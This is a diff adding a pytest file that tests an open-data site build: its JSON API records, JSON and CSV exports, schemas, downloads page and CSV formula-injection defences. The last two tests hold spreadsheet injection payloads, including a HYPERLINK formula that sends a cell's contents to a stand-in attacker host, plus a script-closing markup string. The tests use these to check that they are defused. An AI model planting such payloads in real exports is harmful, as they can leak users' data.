@@ -1,0 +1,224 @@
+"""Open data: the JSON API, the JSON and CSV exports, the published schemas, the downloads page; CSV formula safety."""
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+import yaml
+
+from conftest import BASIC, REPO, edit, messages, run_build, soup
+
+BASE = "https://example.org/atlas/"  # the fixture's site URL
+
+
+def _json(site: Path, path: str) -> dict:
+    return json.loads((site / path).read_text(encoding="utf-8"))
+
+
+def _csv(site: Path, path: str) -> list[dict[str, str]]:
+    raw = (site / path).read_bytes()
+    assert not raw.startswith(b"\xef\xbb\xbf")
+    return list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
+
+
+def _fixture_provision_keys(root: Path = BASIC) -> list[str]:
+    return sorted(f"{p.parts[-3]}/{p.parts[-2]}/{p.stem}" for p in (root / "content").glob("*/*/*.yaml")
+                  if p.name != "document.yaml")
+
+
+def _local(site: Path, url: str) -> Path:
+    """The output file an absolute URL under the fixture's base URL points at."""
+    assert url.startswith(BASE), url
+    rel = url[len(BASE):]
+    return site / (rel + "index.html" if rel.endswith("/") or not rel else rel)
+
+
+def test_api_index_links_to_every_record_file(basic_site: Path) -> None:
+    index = _json(basic_site, "api/v1/index.json")
+    assert index["api_version"] == "v1"
+    assert index["licence"]["id"] == "CC-BY-4.0" and index["licence"]["url"] == "https://creativecommons.org/licenses/by/4.0/"
+    assert index["counts"] == {"platforms": 3, "documents": 3, "provisions": 5, "clause_types": 2, "regulations": 2}
+    assert [p["id"] for p in index["platforms"]] == ["alpha", "beta", "gamma"]
+    assert [d["id"] for d in index["documents"]] == ["alpha/policy", "beta/policy", "gamma/policy"]
+    assert [t["id"] for t in index["clause_types"]] == ["child-safety", "training-on-inputs"]
+    assert [g["id"] for g in index["regulations"]] == ["eu-ai-act", "coppa"]
+    for kind in ("platforms", "documents", "clause_types", "regulations"):
+        for item in index[kind]:
+            assert _local(basic_site, item["links"]["self"]).is_file(), item
+            assert _local(basic_site, item["permalink"]).is_file(), item
+            assert (basic_site / item["path"] / "index.html").is_file(), item
+    links = index["links"]
+    for url in [links["self"], links["provisions"], links["downloads"], links["matrix"], *links["exports"].values(),
+                *links["schemas"].values()]:
+        assert _local(basic_site, url).exists(), url
+
+
+def test_each_record_file_has_its_permalink_and_links(basic_site: Path) -> None:
+    listing = _json(basic_site, "api/v1/provisions/index.json")
+    assert listing["count"] == 5
+    assert [p["id"] for p in listing["provisions"]] == _fixture_provision_keys()
+    for summary in listing["provisions"]:
+        record = _json(basic_site, summary["links"]["self"][len(BASE):])
+        assert record["id"] == summary["id"]
+        assert record["permalink"] == BASE + f"platforms/{record['id']}/"
+        assert record["links"]["self"] == BASE + f"api/v1/provisions/{record['id']}.json"
+        # The permalink is the page's canonical URL.
+        page = soup(basic_site, record["path"])
+        assert page.find("link", rel="canonical")["href"] == record["permalink"]
+        for key in ("platform", "document", "clause_type"):
+            assert _local(basic_site, record["links"][key]).is_file()
+        for url in record["links"]["regulations"]:
+            assert _local(basic_site, url).is_file()
+
+
+def test_provision_record_holds_what_the_yaml_says(basic_site: Path) -> None:
+    record = _json(basic_site, "api/v1/provisions/alpha/policy/child-safety.json")
+    source = yaml.safe_load((BASIC / "content/alpha/policy/child-safety.yaml").read_text(encoding="utf-8"))
+    for key in ("title", "clause_type", "position", "severity", "summary", "why_it_matters", "confidence"):
+        assert record[key] == source[key], key
+    assert record["excerpt"]["text"] == source["excerpt"]["text"]
+    assert record["excerpt"]["verified"] is True
+    assert record["regulations"] == [{"regulation": r["regulation"], "articles": r["articles"], "rationale": r["rationale"]}
+                                     for r in source["regulations"]]
+    assert record["compliance"]["governance_exposure"] == {"level": "high", "text": "Exposure text."}
+    assert record["changes"][0]["previous_text"] == source["changes"][0]["previous_text"]
+    assert record["first_seen"] == "2026-01-10"
+    assert record["derived"] == {"platforms_with_clause_type": 2, "platforms_total": 3, "changes": 1, "months_monitored": 3}
+
+
+def test_platform_document_clause_type_and_regulation_files(basic_site: Path) -> None:
+    beta = _json(basic_site, "api/v1/platforms/beta.json")
+    assert beta["name"] == "Beta Labs" and beta["permalink"] == BASE + "platforms/beta/"
+    assert [p["id"] for p in beta["provisions"]] == ["beta/policy/minors", "beta/policy/old-clause"]
+    assert [p["status"] for p in beta["provisions"]] == ["active", "removed"]
+    document = _json(basic_site, "api/v1/documents/alpha/policy.json")
+    assert [v["captured"] for v in document["versions"]] == ["2026-01-10", "2026-02-15", "2026-04-01"]
+    assert all(v["hash_verified"] for v in document["versions"])
+    assert _local(basic_site, document["versions"][0]["snapshot"]).is_file()
+    clause_type = _json(basic_site, "api/v1/clause-types/training-on-inputs.json")
+    assert {x["id"]: x["provisions"] for x in clause_type["positions"]} == {"opt-in": 1, "opt-out": 0, "always": 2}
+    assert clause_type["platforms_with_type"] == 3
+    regulation = _json(basic_site, "api/v1/regulations/eu-ai-act.json")
+    assert regulation["mappings"] == [{
+        "provision": "alpha/policy/child-safety", "platform": "alpha", "articles": ["art-5"],
+        "rationale": "The Act bans some practices outright.",
+        "permalink": BASE + "platforms/alpha/policy/child-safety/", "path": "platforms/alpha/policy/child-safety/",
+        "links": {"self": BASE + "api/v1/provisions/alpha/policy/child-safety.json",
+                  "html": BASE + "platforms/alpha/policy/child-safety/"}}]
+
+
+def test_records_carry_exactly_the_documented_fields(basic_site: Path) -> None:
+    from atlas import records as r
+    envelope = {"api_version", "licence", "as_of"}
+    documented = {
+        "api/v1/platforms/alpha.json": r.PLATFORM_FIELDS, "api/v1/documents/alpha/policy.json": r.DOCUMENT_FIELDS,
+        "api/v1/provisions/alpha/policy/child-safety.json": r.PROVISION_FIELDS,
+        "api/v1/clause-types/child-safety.json": r.CLAUSE_TYPE_FIELDS, "api/v1/regulations/coppa.json": r.REGULATION_FIELDS,
+    }
+    for path, fields in documented.items():
+        assert set(_json(basic_site, path)) == {name for name, _ in fields} | envelope, path
+    summary = _json(basic_site, "api/v1/platforms/alpha.json")["provisions"][0]
+    assert set(summary) == {name for name, _ in r.PROVISION_SUMMARY_FIELDS}
+
+
+def test_full_json_export_counts_the_records(basic_site: Path) -> None:
+    export = _json(basic_site, "api/v1/provisions.json")
+    assert export["count"] == len(export["provisions"]) == 5
+    assert [p["id"] for p in export["provisions"]] == _fixture_provision_keys()
+    assert export["licence"]["name"] == "Creative Commons Attribution 4.0"
+    # The export holds the same records as the per-provision files.
+    for record in export["provisions"]:
+        single = _json(basic_site, f"api/v1/provisions/{record['id']}.json")
+        assert {k: v for k, v in single.items() if k not in ("api_version", "licence", "as_of")} == record
+
+
+def test_csv_export_counts_and_matches_the_json(basic_site: Path) -> None:
+    from atlas.pages.data import PROVISION_CSV_COLUMNS
+    rows = _csv(basic_site, "api/v1/provisions.csv")
+    assert (basic_site / "api/v1/provisions.csv").read_bytes().count(b"\r\n") >= 6
+    assert list(rows[0]) == [c.name for c in PROVISION_CSV_COLUMNS]
+    assert [row["id"] for row in rows] == _fixture_provision_keys()
+    records = {p["id"]: p for p in _json(basic_site, "api/v1/provisions.json")["provisions"]}
+    for row in rows:
+        record = records[row["id"]]
+        assert row["title"] == record["title"]
+        assert row["excerpt"] == record["excerpt"]["text"]
+        assert row["permalink"] == record["permalink"]
+        assert row["quote_verified"] == ("true" if record["excerpt"]["verified"] else "false")
+    alpha = next(row for row in rows if row["id"] == "alpha/policy/child-safety")
+    assert alpha["regulations"] == "eu-ai-act (art-5); coppa (sec-312-5)"
+    assert alpha["platform_name"] == "Alpha AI" and alpha["changes"] == "1" and alpha["last_change"] == "2026-02-15"
+
+
+def test_schemas_are_published_at_their_ids(basic_site: Path) -> None:
+    from atlas.validate import RECORD_KINDS
+    for kind in RECORD_KINDS:
+        published = basic_site / f"schemas/v1/{kind}.schema.json"
+        source = REPO / f"atlas/schemas/{kind}.schema.json"
+        assert published.read_bytes() == source.read_bytes()
+        assert json.loads(published.read_text(encoding="utf-8"))["$id"].endswith(f"/schemas/v1/{kind}.schema.json")
+
+
+def test_downloads_page_describes_every_file_and_field(basic_site: Path) -> None:
+    from atlas import records as r
+    from atlas.pages.data import PROVISION_CSV_COLUMNS
+    page = soup(basic_site, "downloads/")
+    licence = page.select_one("#licence-h").find_parent("section")
+    assert licence.find("a", rel="license")["href"] == "https://creativecommons.org/licenses/by/4.0/"
+    sections = {s.h3["id"]: s for s in page.select("section.data-file")}
+
+    def names(section_id: str) -> list[str]:
+        return [th.get_text() for th in sections[section_id].select("tbody th")]
+
+    assert names("file-provisions-csv") == [c.name for c in PROVISION_CSV_COLUMNS]
+    assert names("file-provisions") == [n for n, _ in r.PROVISION_FIELDS]
+    assert names("file-platforms") == [n for n, _ in r.PLATFORM_FIELDS]
+    for section in sections.values():
+        for a in section.select("a[href]"):
+            assert (basic_site / "downloads" / a["href"]).resolve().is_file(), a["href"]
+    published = {p.relative_to(basic_site).as_posix() for p in (basic_site / "api").rglob("*") if p.is_file()}
+    described = " ".join(s.select_one("p code").get_text() for s in sections.values())
+    for path in published:  # every file is described, by its path or by its family's pattern
+        family = path.split("/")[2] if path.count("/") > 2 else path
+        assert path in described or f"api/v1/{family}/" in described, path
+    schema_links = [a["href"] for a in page.select("#schemas-h ~ ul a")]
+    assert len(schema_links) == 8
+
+
+def test_urls_follow_the_base_url(tmp_path: Path) -> None:
+    out = tmp_path / "site"
+    assert run_build(BASIC, out, base_url="https://data.example.net/sub/").ok
+    index = _json(out, "api/v1/index.json")
+    assert index["links"]["self"] == "https://data.example.net/sub/api/v1/index.json"
+    assert index["platforms"][0]["permalink"] == "https://data.example.net/sub/platforms/alpha/"
+    assert _csv(out, "api/v1/provisions.csv")[0]["permalink"].startswith("https://data.example.net/sub/platforms/")
+
+
+@pytest.mark.parametrize("text", ["=HYPERLINK(\"https://evil.example\",\"x\")", "+1+2", "-2+3", "@SUM(A1)",
+                                  "\tTabbed", "\rCarriage"])
+def test_safe_cell_defuses_formulas(text: str) -> None:
+    from atlas.csv_export import safe_cell
+    assert safe_cell(text) == "'" + text
+    assert safe_cell("Plain text = fine") == "Plain text = fine"
+
+
+def test_formula_injection_in_a_record_is_defused(kb: Path, tmp_path: Path) -> None:
+    source = kb / "content/alpha/policy/child-safety.yaml"
+    edit(source, "title: Child safety ban", "title: '=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")'")
+    edit(source, "summary: Summary of Child safety ban at alpha.", "summary: '@SUM(1+1)</script><b>x</b>'")
+    out = tmp_path / "site"
+    result = run_build(kb, out)
+    assert result.ok, messages(result)
+    rows = {row["id"]: row for row in _csv(out, "api/v1/provisions.csv")}
+    row = rows["alpha/policy/child-safety"]
+    assert row["title"] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
+    assert row["summary"].startswith("'@SUM")
+    for cells in rows.values():  # no cell of any row can start a formula
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells.values())
+    # JSON keeps the text as written, escaped so that it cannot close a script element if embedded.
+    raw = (out / "api/v1/provisions/alpha/policy/child-safety.json").read_text(encoding="utf-8")
+    assert "</script>" not in raw and "<b>" not in raw
+    assert json.loads(raw)["title"].startswith("=HYPERLINK(")
